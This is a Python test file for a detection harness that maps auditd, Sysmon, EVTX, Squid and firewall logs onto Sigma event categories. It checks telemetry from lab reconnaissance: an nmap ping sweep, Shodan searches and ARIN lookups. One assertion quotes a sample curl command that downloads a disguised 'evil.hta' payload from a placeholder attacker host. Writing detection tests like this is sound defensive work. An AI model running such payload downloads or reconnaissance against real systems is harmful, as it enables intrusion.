from __future__ import annotations

from pathlib import Path

from harness.telemetry.parsers import Record, parse_file
from harness.telemetry.parsers.nflog import parse as parse_nflog
from harness.views.context import ViewContext
from harness.views.events import Fields, SigmaEvent
from harness.views.sigma import sigma_events

NMAP = "nmap -sn 198.51.100.128/28 -oX /tmp/atomic-nmap-sweep.xml"


def _cat(events: list[SigmaEvent], category: str, product: str | None = "linux") -> list[Fields]:
    return [
        e["event"] for e in events if e["logsource"]["category"] == category and e["logsource"]["product"] == product
    ]


def test_auditd_process_creation(audit_records: list[Record], lab_ctx: ViewContext) -> None:
    events = sigma_events(audit_records, lab_ctx)
    procs = _cat(events, "process_creation")
    nmap = [p for p in procs if p["Image"] == "/usr/bin/nmap"]
    assert len(nmap) == 1
    assert nmap[0]["CommandLine"] == NMAP
    assert nmap[0]["ParentImage"] == "/usr/sbin/sshd"
    assert nmap[0]["CurrentDirectory"] == "/root" and nmap[0]["User"] == "root"
    assert nmap[0]["TerminalSessionId"] == "62"
    shodan = [p["CommandLine"] for p in procs if p["Image"] == "/usr/bin/python3.11"]
    assert "/opt/labrec/labvenv/bin/python3 /opt/labrec/labvenv/bin/shodan search net:198.51.100.128/28" in shodan
    # The quotes the shell removed stay removed (argv joined by spaces), as Sysmon shows it.
    assert "curl -s -H Accept: application/json https://rdap.arin.net/registry/ip/198.51.100.130" in [
        p["CommandLine"] for p in procs
    ]


def test_auditd_connections_named_from_dns(audit_records: list[Record], lab_ctx: ViewContext) -> None:
    events = sigma_events(audit_records, lab_ctx)
    conns = _cat(events, "network_connection")
    https = {
        (c["Image"], c["DestinationIp"], c.get("DestinationHostname"))
        for c in conns
        if c["DestinationPort"] == 443 and c["Image"] != "/usr/bin/nmap"
    }
    assert https == {
        ("/usr/bin/python3.11", "198.51.100.10", "api.shodan.io"),
        ("/usr/bin/curl", "198.51.100.20", "whois.arin.net"),
        ("/usr/bin/curl", "198.51.100.20", "rdap.arin.net"),
        ("/usr/bin/curl", "198.51.100.30", "bgp.he.net"),
        ("/usr/bin/curl", "198.51.100.80", "www.example.com"),
    }
    assert all(c["Initiated"] == "true" and c["SourceIp"] == "198.51.100.250" for c in conns)
    nmap = [c for c in conns if c["Image"] == "/usr/bin/nmap"]
    probes = [c for c in nmap if c["DestinationIp"] != "198.51.100.53"]  # .53: its reverse-DNS lookups
    assert {c["DestinationIp"] for c in probes} == {f"198.51.100.{i}" for i in range(128, 144)}
    assert {(c["DestinationPort"], c["Protocol"]) for c in nmap if c["DestinationIp"] == "198.51.100.53"} == {
        (53, "udp")
    }
    assert {c["Protocol"] for c in probes if c["DestinationPort"] == 0} == {"icmp"}


def test_auditd_files_and_raw_records(audit_records: list[Record], lab_ctx: ViewContext) -> None:
    events = sigma_events(audit_records, lab_ctx)
    created = {e["TargetFilename"] for e in _cat(events, "file_event")}
    assert created == {
        "/tmp/atomic-arin.xml",
        "/tmp/atomic-nmap-sweep.xml",
        "/tmp/atomic-bgp.html",
        "/opt/labrec/labhome/.config/shodan/api_key",
    }
    deleted = {e["TargetFilename"] for e in _cat(events, "file_delete")}
    # rm -rf deletes api_key with unlinkat(dirfd): resolved through the directory's inode.
    assert "/opt/labrec/labhome/.config/shodan/api_key" in deleted
    raw = [e for e in events if e["logsource"] == {"product": "linux", "service": "auditd", "category": None}]
    assert len(raw) == 963 - 28 + 28
    assert any(
        r["event"]["type"] == "EXECVE" and r["event"].get("a0") == "nmap" and r["event"].get("a1") == "-sn" for r in raw
    )
    assert any(
        r["event"]["type"] == "SYSCALL"
        and r["event"].get("SYSCALL") == "sendto"
        and r["event"].get("exe") == "/usr/bin/nmap"
        for r in raw
    )
    assert all(set(e["meta"]) == {"source", "file", "line", "time"} for e in events)
    assert not sigma_events(audit_records[:5], lab_ctx, auditd_raw=False) or all(
        e["logsource"]["service"] != "auditd" for e in sigma_events(audit_records[:50], lab_ctx, auditd_raw=False)
    )


def test_dns_category_from_resolver_log(audit_records: list[Record], lab_ctx: ViewContext) -> None:
    dns = _cat(sigma_events(audit_records, lab_ctx), "dns", None)
    assert len(dns) == 16
    assert dns[0] == {
        "query": "api.shodan.io",
        "record_type": "A",
        "answer": "198.51.100.10",
        "src_ip": "198.51.100.250",
        "src_port": 60623,
    }
    assert {
        "query": "129.100.51.198.in-addr.arpa",
        "record_type": "PTR",
        "answer": "gw.example.test",
        "src_ip": "198.51.100.250",
        "src_port": 56199,
    } in dns


def test_inet_requests_as_proxy(audit_records: list[Record], lab_ctx: ViewContext) -> None:
    proxy = _cat(sigma_events(audit_records, lab_ctx), "proxy", None)
    assert len(proxy) == 7
    arin = next(p for p in proxy if p["cs-host"] == "whois.arin.net")
    assert arin["c-uri"] == "https://whois.arin.net/rest/ip/198.51.100.130"
    assert arin["cs-method"] == "GET" and arin["sc-status"] == 200 and arin["c-useragent"].startswith("curl/")
    assert arin["src_ip"] == "198.51.100.250" and arin["dst_ip"] == "198.51.100.20"


def test_sysmon_keeps_its_field_names(sysmon_records: list[Record], lab_ctx: ViewContext) -> None:
    events = sigma_events(sysmon_records, lab_ctx)
    sysmon = [e for e in events if e["logsource"]["service"] == "sysmon"]
    assert len(sysmon) == 350
    nmap = [e["event"] for e in sysmon if e["event"].get("Image") == "/usr/bin/nmap" and e["event"]["EventID"] == 1]
    assert nmap[0]["CommandLine"] == NMAP
    assert set(nmap[0]) >= {
        "EventID",
        "RuleName",
        "UtcTime",
        "ProcessGuid",
        "ProcessId",
        "Image",
        "FileVersion",
        "Description",
        "Product",
        "Company",
        "OriginalFileName",
        "CommandLine",
        "CurrentDirectory",
        "User",
        "LogonGuid",
        "LogonId",
        "TerminalSessionId",
        "IntegrityLevel",
        "Hashes",
        "ParentProcessGuid",
        "ParentProcessId",
        "ParentImage",
        "ParentCommandLine",
        "ParentUser",
    }
    cats = {e["event"]["EventID"]: e["logsource"]["category"] for e in sysmon}
    assert cats == {
        1: "process_creation",
        3: "network_connection",
        4: None,
        5: "process_termination",
        11: "file_event",
        16: None,
        23: "file_delete",
    }
    curl3 = [e["event"] for e in sysmon if e["event"]["EventID"] == 3 and e["event"]["Image"] == "/usr/bin/curl"]
    # Sysmon wrote "-": filled from the resolver's answer.
    assert {c["DestinationHostname"] for c in curl3} == {
        "whois.arin.net",
        "rdap.arin.net",
        "bgp.he.net",
        "www.example.com",
    }


def test_windows_evtx_categories() -> None:
    samples = Path(__file__).resolve().parents[1] / "data" / "sigmahq" / "regression-samples"
    recs = [r for p in sorted(samples.rglob("*.evtx")) for r in parse_file("evtx", p)]
    events = sigma_events(recs)
    cats = sorted({(e["logsource"]["product"], e["logsource"]["category"]) for e in events})
    assert cats == [
        ("windows", "file_event"),
        ("windows", "image_load"),
        ("windows", "process_creation"),
        ("windows", "registry_set"),
    ]
    curl = next(e["event"] for e in events if str(e["event"].get("Image", "")).endswith("curl.exe"))
    assert curl["CommandLine"] == 'curl  --output benign.hta "https://12.34.56.78/hack/evil.hta"'
    assert curl["EventID"] == 1 and curl["Channel"] == "Microsoft-Windows-Sysmon/Operational"


def test_squid_and_nflog() -> None:
    data = Path(__file__).resolve().parents[1] / "data" / "telemetry"
    squid = list(parse_file("squid", data / "squid-harness.log"))
    nflog = list(
        parse_nflog(
            [
                '{"oob.time.sec": 1795844150, "oob.prefix": "harness-drop ", "src_ip": "198.51.100.250",'
                ' "dest_ip": "198.51.100.131", "ip.protocol": 6, "src_port": 40000, "dest_port": 443}'
            ]
        )
    )
    events = sigma_events(squid + nflog)
    proxy = _cat(events, "proxy", None)
    assert len(proxy) == 5
    assert proxy[0]["c-uri-stem"] == "/rest/ip/198.51.100.130" and "c-uri-query" not in proxy[0]
    assert proxy[1]["cs-host"] == "localhost" and proxy[1]["cs-referrer"] == "http://example.test/"
    assert proxy[1]["c-uri-extension"] == "conf" and proxy[1]["sc-status"] == 200
    assert proxy[2]["cs-method"] == "CONNECT" and "c-uri-stem" not in proxy[2]
    assert all(p["src_ip"] == "127.0.0.1" and "cs-username" not in p for p in proxy)
    (fw,) = _cat(events, "firewall", "linux")
    assert fw == {
        "src_ip": "198.51.100.250",
        "dst_ip": "198.51.100.131",
        "src_port": 40000,
        "dst_port": 443,
        "protocol": "tcp",
        "action": "drop",
        "prefix": "harness-drop",
    }
